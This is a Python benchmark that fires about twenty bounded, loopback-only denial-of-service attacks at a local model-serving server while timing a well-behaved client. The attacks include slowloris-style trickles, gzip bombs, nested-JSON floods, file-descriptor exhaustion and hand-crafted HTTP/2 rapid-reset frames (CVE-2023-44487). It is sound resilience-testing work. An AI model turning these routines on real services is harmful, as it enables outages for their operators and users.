"""What attackers on this machine can do to the embedded server, beside a client that behaves.

.venv/bin/python -m benchmarks.attacks --models runs/sample/serving [--seconds 8] [--only silent big_lists]

For each attack: the milliseconds of the client that behaves (it asks 40 times a second, by REST and by gRPC, on
connections that it keeps and on new ones) in the seconds before the attack and during it, how many of its requests
failed, and how much memory the server, with the process that reads JSON, takes at most beyond what it took before
the first attack. The server may open 1,024 files. Every attack goes to the loopback address only, is bounded in
connections and time, and runs at the lowest priority, so that it takes what time the server leaves. Ratios of a busy
machine say little: its load stands beside them.
"""

from __future__ import annotations

import argparse
import contextlib
import gzip
import json
import multiprocessing
import os
import random
import socket
import struct
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

from benchmarks.serving import newest_version, percentile, serving
from benchmarks.serving_clients import as_json, requests_of

TOKEN = "attacks"
DESCRIPTORS = 1024
ASKS_EACH_SECOND = 40
LARGEST = 16 * 2**20
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0"
HELLO = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\xaa" * 500


class Target:
    """The server that is attacked, for as long as it may be."""

    def __init__(self, name: str, ports: tuple[int, int], seconds: float) -> None:
        self.name, (self.rest, self.grpc), self.until = name, ports, time.monotonic() + seconds

    @property
    def goes_on(self) -> bool:
        """Whether there is time left."""
        return time.monotonic() < self.until

    def connect(self, port: int) -> socket.socket:
        """Opens a connection."""
        line = socket.create_connection(("127.0.0.1", port), timeout=5)
        line.settimeout(max(0.1, min(5.0, self.until - time.monotonic())))
        return line

    def head(self, length: int | None, extra: str = "") -> bytes:
        """Returns the head of a request to predict, with the token."""
        size = "" if length is None else f"Content-Length: {length}\r\n"
        return (
            f"POST /v1/models/{self.name}:predict HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer {TOKEN}\r\n"
            f"{size}{extra}\r\n"
        ).encode()

    def keep(
        self,
        port: int,
        count: int,
        sent: bytes,
        more: bytes = b"",
        every: float = 0.5,
        *,
        reads: bool = True,
    ) -> None:
        """Holds so many connections open, opens them again where they are ended, and trickles bytes into them."""
        lines: list[socket.socket] = []
        while self.goes_on:
            while len(lines) < count and self.goes_on:
                with contextlib.suppress(OSError):
                    line = self.connect(port)
                    line.sendall(sent)
                    line.setblocking(False)
                    lines.append(line)
            begun = time.monotonic()
            lines = [line for line in lines if _is_open(line, more, reads=reads)]
            time.sleep(
                max(0.0, min(every - (time.monotonic() - begun), self.until - time.monotonic()))
            )
        for line in lines:
            line.close()

    def ask(self, port: int, sent: bytes, *, reads: bool = True) -> None:
        """Sends the same again and again, each time on a new connection, and reads what comes back."""
        while self.goes_on:
            with contextlib.suppress(OSError), self.connect(port) as line:
                line.sendall(sent)
                while reads and line.recv(2**20):
                    if not self.goes_on:
                        return
                    break


def _is_open(line: socket.socket, more: bytes, *, reads: bool = True) -> bool:
    try:
        if more:
            line.send(more)
        if not reads or line.recv(65536):
            return True
    except BlockingIOError:
        return True
    except OSError:
        pass
    line.close()
    return False


# The attacks: each runs in several processes.


def silent(target: Target) -> None:
    """Connections that say nothing, to both ports: together more than the server may open files."""
    other = threading.Thread(target=target.keep, args=(target.grpc, 550, b""))
    other.start()
    target.keep(target.rest, 550, b"")
    other.join()


def slow_heads(target: Target) -> None:
    """Heads that come byte by byte."""
    target.keep(target.rest, 300, b"POST /v1/models/a:predict HTTP/1.1\r\nX: ", b"x", 0.1)


def slow_bodies(target: Target) -> None:
    """Bodies that come byte by byte: as many as requests may be under way."""
    target.keep(target.rest, 256, target.head(100_000), b" ", 0.1)


def large_slow_bodies(target: Target) -> None:
    """Bodies that come but for their end."""
    target.keep(target.rest, 8, target.head(LARGEST) + b" " * (LARGEST // 4), b" ", 0.1)


def large_heads(target: Target) -> None:
    """Headers and URLs of a megabyte."""
    while target.goes_on:
        for sent in (b"GET /" + b"x" * 2**20, b"GET / HTTP/1.1\r\n" + b"X: y\r\n" * 2**17):
            with contextlib.suppress(OSError), target.connect(target.rest) as line:
                line.sendall(sent)
                line.recv(1000)


def gzip_bombs(target: Target) -> None:
    """Bodies of 250 KB that unpack to 256 MiB."""
    bomb = gzip.compress(b" " * (256 * 2**20), 9)
    target.ask(target.rest, target.head(len(bomb), "Content-Encoding: gzip\r\n") + bomb)


def big_lists(target: Target) -> None:
    """Sixteen MiB of empty lists."""
    body = b'{"instances": [' + b"[]," * ((LARGEST - 100) // 3) + b"[]]}"
    target.ask(target.rest, target.head(len(body)) + body)


def deep_lists(target: Target) -> None:
    """Lists in lists in lists."""
    body = b'{"instances": ' + b"[" * 2**20 + b"]" * 2**20 + b"}"
    target.ask(target.rest, target.head(len(body)) + body)


def tiny_chunks(target: Target) -> None:
    """A body of chunks of one byte."""
    target.ask(
        target.rest, target.head(None, "Transfer-Encoding: chunked\r\n") + b"1\r\n \r\n" * 2**20
    )


def pipelining(target: Target) -> None:
    """Thousands of requests at once on one connection."""
    one = target.head(2) + b"{}"
    target.ask(target.rest, one * 5000)


def unread_answers(target: Target) -> None:
    """Requests whose answers nobody reads."""
    one = f"GET /v1/models/{target.name}/metadata HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer {TOKEN}\r\n\r\n"
    target.keep(target.rest, 100, one.encode() * 16, one.encode() * 4, 0.2, reads=False)


def oversize(target: Target) -> None:
    """Bodies four times as large as they may be, announced and not."""
    body = b" " * (4 * LARGEST)
    while target.goes_on:
        for head in (
            target.head(len(body)),
            target.head(None, "Transfer-Encoding: chunked\r\n") + b"4000000\r\n",
        ):
            with contextlib.suppress(OSError), target.connect(target.rest) as line:
                line.sendall(head + body)


def garbage(target: Target) -> None:
    """Bytes that are no request, and a greeting of TLS, on both ports."""
    draw = random.Random(1)
    while target.goes_on:
        for port in (target.rest, target.grpc):
            for sent in (draw.randbytes(2000), HELLO):
                with contextlib.suppress(OSError), target.connect(port) as line:
                    line.sendall(sent)
                    line.recv(1000)


def wrong_tokens(target: Target) -> None:
    """Large requests with another token, by REST."""
    head = target.head(LARGEST).replace(TOKEN.encode(), b"guess")
    target.ask(target.rest, head + b" " * LARGEST)


def wrong_tokens_by_grpc(target: Target) -> None:
    """The same by gRPC."""
    _grpc_messages(target, b"\0" * LARGEST, "guess")


def many_fields(target: Target) -> None:
    """Messages of gRPC that consist of empty fields."""
    _grpc_messages(target, b"\x12\x00" * (LARGEST // 2 - 8), TOKEN)


def rapid_reset(target: Target) -> None:
    """Calls that are cancelled as soon as they are made (CVE-2023-44487)."""
    _frames(target, lambda stream: _headers(stream) + _frame(3, 0, stream, b"\0\0\0\x08"))


def many_streams(target: Target) -> None:
    """Calls without end, a thousand on each connection."""
    _frames(target, lambda stream: _headers(stream), limit=1000, hold=True)


def slow_messages(target: Target) -> None:
    """Messages of sixteen MiB that come but for their end, a hundred on each connection."""
    prefix = b"\0" + struct.pack(">I", LARGEST - 1)
    _frames(
        target,
        lambda stream: _headers(stream) + _frame(0, 0, stream, prefix + b" " * 600),
        limit=100,
        hold=True,
    )


def _grpc_messages(target: Target, message: bytes, token: str) -> None:
    import grpc

    metadata = (("authorization", f"Bearer {token}"),)
    with grpc.insecure_channel(f"127.0.0.1:{target.grpc}") as channel:
        call = channel.unary_unary("/tensorflow.serving.PredictionService/Predict")
        while target.goes_on:
            with contextlib.suppress(grpc.RpcError):
                call(message, metadata=metadata, timeout=max(0.1, target.until - time.monotonic()))


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return (
        struct.pack(">I", len(payload))[1:]
        + bytes([kind, flags])
        + struct.pack(">I", stream)
        + payload
    )


def _headers(stream: int) -> bytes:
    """Returns the frame of a call's headers, in HPACK without its table."""

    def literal(name: str, value: str) -> bytes:
        return b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()

    block = b"\x83\x86" + b"".join(
        literal(name, value)
        for name, value in {
            ":path": "/tensorflow.serving.PredictionService/Predict",
            ":authority": "a",
            "te": "trailers",
            "content-type": "application/grpc",
            "authorization": f"Bearer {TOKEN}",
        }.items()
    )
    return _frame(1, 4, stream, block)


def _frames(
    target: Target, made: Callable[[int], bytes], limit: int = 10_000, *, hold: bool = False
) -> None:
    """Sends frames of HTTP/2 for one stream after the other, and opens a new connection when one is ended."""
    held: list[socket.socket] = []
    while target.goes_on:
        with contextlib.suppress(OSError):
            line = target.connect(target.grpc)
            line.sendall(PREFACE)
            line.setblocking(True)
            line.settimeout(1)
            for number in range(0, limit, 10):
                line.sendall(b"".join(made(2 * at + 1) for at in range(number, number + 10)))
                if not target.goes_on:
                    break
            if hold:
                held.append(line)
            else:
                line.close()
        if len(held) >= 20:
            time.sleep(0.2)
            held = [line for line in held if line.setblocking(False) or _is_open(line, b"")]
    for line in held:
        line.close()


ATTACKS: dict[str, tuple[Callable[[Target], None], int]] = {
    attack.__name__: (attack, processes)
    for attack, processes in (
        (silent, 2), (slow_heads, 2), (slow_bodies, 2), (large_slow_bodies, 1), (large_heads, 1), (gzip_bombs, 1),
        (big_lists, 2), (deep_lists, 1), (tiny_chunks, 1), (pipelining, 1), (unread_answers, 1), (oversize, 1),
        (garbage, 1), (wrong_tokens, 1), (wrong_tokens_by_grpc, 1), (many_fields, 1), (rapid_reset, 1),
        (many_streams, 1), (slow_messages, 1),
    )
}  # fmt: skip


def _attack(name: str, target: Target) -> None:
    os.nice(19)
    ATTACKS[name][0](target)


# The client that behaves, in a process of its own.


def behave(version: Path, name: str, rest: int, by_grpc: int) -> None:
    """Says when it begins, asks until its input is closed, then prints a list of its requests.

    Each is [time, seconds, what went wrong or null].
    """
    asked = requests_of(version)
    asking = [one for at in range(10_000) for one in _ways(asked, name, rest, by_grpc, at)]
    stop = threading.Event()
    threading.Thread(target=lambda: (sys.stdin.read(), stop.set()), daemon=True).start()
    found: list[Any] = []
    print("asking", flush=True)
    begun = time.monotonic()
    for number, call in enumerate(asking):
        if stop.wait(max(0.0, begun + number / ASKS_EACH_SECOND - time.monotonic())):
            break
        started, wrong = time.monotonic(), None
        try:
            call()
        except Exception as error:
            wrong = f"{type(error).__name__} {str(error)[:200]}"
        found.append([started, time.monotonic() - started, wrong])
    print(json.dumps(found))


def _ways(
    asked: list[Any], name: str, rest: int, by_grpc: int, at: int
) -> Iterator[Callable[[], None]]:
    """Yields a call by REST and one by gRPC; every tenth opens a connection of its own."""
    import grpc
    import httpx
    from tensorflow_serving.apis.prediction_service_pb2_grpc import PredictionServiceStub

    request = asked[at % len(asked)]
    request.model_spec.name = name
    request.model_spec.ClearField("version_choice")
    kept = _kept(rest, by_grpc)

    def ask_rest(client: Any) -> None:
        headers = {"Authorization": f"Bearer {TOKEN}"}
        url = f"http://127.0.0.1:{rest}/v1/models/{name}:predict"
        client.post(url, content=as_json(request), headers=headers).raise_for_status()

    def ask_grpc(channel: Any) -> None:
        PredictionServiceStub(channel).Predict(
            request, timeout=10, metadata=(("authorization", f"Bearer {TOKEN}"),)
        )

    def new_rest() -> None:
        with httpx.Client(timeout=10, trust_env=False) as client:
            ask_rest(client)

    def new_grpc() -> None:
        with grpc.insecure_channel(
            f"127.0.0.1:{by_grpc}", [("grpc.use_local_subchannel_pool", 1)]
        ) as channel:
            ask_grpc(channel)

    is_new = at % 10 == 9
    yield new_rest if is_new else lambda: ask_rest(kept[0])
    yield new_grpc if is_new else lambda: ask_grpc(kept[1])


_KEPT: dict[tuple[int, int], tuple[Any, Any]] = {}


def _kept(rest: int, by_grpc: int) -> tuple[Any, Any]:
    import grpc
    import httpx

    if (rest, by_grpc) not in _KEPT:
        client = httpx.Client(timeout=10, trust_env=False)
        _KEPT[rest, by_grpc] = client, grpc.insecure_channel(f"127.0.0.1:{by_grpc}")
    return _KEPT[rest, by_grpc]


# What is measured.


def memory_of(pid: int) -> float:
    """Returns the MiB that a process and those that it started take."""
    total = 0.0
    for path in Path(f"/proc/{pid}/task").glob("*/children"):
        with contextlib.suppress(OSError):
            total += sum(memory_of(int(child)) for child in path.read_text().split())
    with contextlib.suppress(OSError, StopIteration):
        lines = Path(f"/proc/{pid}/smaps_rollup").read_text().splitlines()
        total += next(int(line.split()[1]) for line in lines if line.startswith("Pss:")) / 1024
    return total


def main(models: Path, name: str, seconds: float, only: list[str]) -> None:
    """Prints a line for each attack."""
    version = newest_version(models)
    windows: dict[str, tuple[float, float, float, float]] = {}
    with serving(models, name, DESCRIPTORS, TOKEN) as server:
        command = [
            sys.executable,
            "-m",
            __spec__.name,
            "--behave",
            str(version),
            name,
            *map(str, server.ports),
        ]
        environment = {**os.environ, "CUDA_VISIBLE_DEVICES": "-1", "TF_CPP_MIN_LOG_LEVEL": "3"}
        client = subprocess.Popen(
            command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, env=environment
        )
        assert client.stdout is not None
        client.stdout.readline()  # it imports TensorFlow first
        time.sleep(2)
        before = memory_of(server.pid)
        print(
            f"{'':22} quiet p50  p99   attack p50  p99  ratio  failed  memory   (load)", flush=True
        )
        for attack in only or ATTACKS:
            quiet = time.monotonic()
            time.sleep(seconds)
            began, most = time.monotonic(), 0.0
            processes = [
                multiprocessing.get_context("spawn").Process(
                    target=_attack, args=(attack, Target(name, server.ports, seconds + 2))
                )
                for _ in range(ATTACKS[attack][1])
            ]
            for process in processes:
                process.start()
            while time.monotonic() < began + seconds + 2:
                most = max(most, memory_of(server.pid))
                time.sleep(0.2)
            windows[attack] = (quiet, began, time.monotonic(), most - before)
            for process in processes:
                process.join(20)
                process.kill()
            time.sleep(2)
            load = os.getloadavg()[0]
            print(f"{attack:22} memory +{most - before:.0f} MiB, load {load:.1f}", flush=True)
        found = json.loads(client.communicate()[0])
        server.log.seek(0)
        logged = len(server.log.read())
    for attack, (quiet, began, ended, more) in windows.items():
        still = [took for at, took, _ in found if quiet <= at < began]
        under = [took for at, took, _ in found if began <= at < ended]
        wrong = [why for at, _, why in found if began <= at < ended and why]
        figures = [percentile(times, share) for times in (still, under) for share in (0.5, 0.99)]
        print(
            f"{attack:22} {figures[0]:8.1f} {figures[1]:6.1f} {figures[2]:10.1f} {figures[3]:6.1f} "
            f"{figures[3] / figures[1]:6.1f} {len(wrong):4} of {len(under):3} {more:+6.0f} MiB {wrong[:1]}"
        )
    print(f"{logged} bytes were logged")


if __name__ == "__main__":
    if sys.argv[1:2] == ["--behave"]:
        behave(Path(sys.argv[2]), sys.argv[3], int(sys.argv[4]), int(sys.argv[5]))
        sys.exit()
    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    parser.add_argument("--models", type=Path, required=True)
    parser.add_argument("--name", default="sample")
    parser.add_argument("--seconds", type=float, default=8)
    parser.add_argument("--only", nargs="+", default=[], choices=sorted(ATTACKS))
    given = parser.parse_args()
    main(given.models, given.name, given.seconds, given.only)
